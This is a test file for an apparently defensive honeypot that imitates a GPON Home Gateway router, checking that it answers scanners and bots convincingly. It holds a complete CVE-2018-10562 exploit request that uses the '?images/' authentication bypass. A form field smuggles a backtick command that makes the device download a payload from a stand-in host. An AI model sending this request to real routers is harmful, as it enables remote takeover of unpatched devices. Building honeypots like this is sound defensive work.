import { describe, expect, it } from "vitest";
import { GPON_NAME, gponPersona } from "./gpon.js";
import type { PersonaReply } from "./persona.js";
import { bodyText, drive, header, oneResponse } from "./persona-fixture.js";

const FORM =
  "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.7/g`;busybox&ipv=0";
/** The CVE-2018-10562 request as most bots sent it: with headers and a Content-Length. */
const EXPLOIT = `POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nConnection: keep-alive\r\nAccept-Encoding: gzip, deflate\r\nAccept: */*\r\nUser-Agent: Hello, World\r\nContent-Length: ${FORM.length}\r\n\r\n${FORM}`;

function only(replies: PersonaReply[]) {
  expect(replies).toHaveLength(1);
  return oneResponse(replies[0] as PersonaReply);
}

describe("gpon persona", () => {
  it("shows the GPON Home Gateway login scanners fingerprint", () => {
    const res = only(drive(gponPersona, ["GET /login.html HTTP/1.1\r\nHost: x\r\n\r\n"]));
    expect(res.status).toBe(200);
    expect(bodyText(res)).toContain(`var XOntName = '${GPON_NAME}';`);
    expect(bodyText(res)).toContain(
      '<form id="XForm" name="XForm" method="post" action="/GponForm/LoginForm">',
    );
    expect(header(res, "server")).toBe(undefined);
    const root = only(drive(gponPersona, ["GET / HTTP/1.1\r\nHost: x\r\n\r\n"]));
    expect(bodyText(root)).toContain("url=/login.html");
    expect(bodyText(root)).toContain(`<title>${GPON_NAME}</title>`);
  });

  it("accepts the diag_Form exploit through the ?images/ bypass, with or without headers", () => {
    const replies = drive(gponPersona, [
      EXPLOIT,
      "GET /diag.html?images/ HTTP/1.1\r\nHost: x\r\n\r\n",
    ]);
    expect(replies).toHaveLength(2);
    const [post, diag] = replies.map((r) => oneResponse(r));
    expect(post?.status).toBe(200);
    expect(bodyText(post!)).toContain('name="dest_host"');
    expect(bodyText(diag!)).toContain("diag_result");
    expect(replies.every((r) => r.close === undefined)).toBe(true);
    const bare = only(
      drive(gponPersona, [`POST /GponForm/diag_Form?images/ HTTP/1.1\r\n${FORM}\r\n`]),
    );
    expect(bare.status).toBe(200);
    expect(bodyText(bare)).toContain("diag_result");
  });

  it("sends protected pages without the bypass back to the login", () => {
    const res = only(drive(gponPersona, ["GET /diag.html HTTP/1.1\r\nHost: x\r\n\r\n"]));
    expect(bodyText(res)).toContain("url=/login.html");
    expect(bodyText(res)).not.toContain("diag_result");
    expect(only(drive(gponPersona, ["GET /nope HTTP/1.1\r\nHost: x\r\n\r\n"])).status).toBe(404);
  });

  it("listens on 80, 8080 and 8443", () => {
    expect(gponPersona.ports).toEqual([80, 8080, 8443]);
  });
});
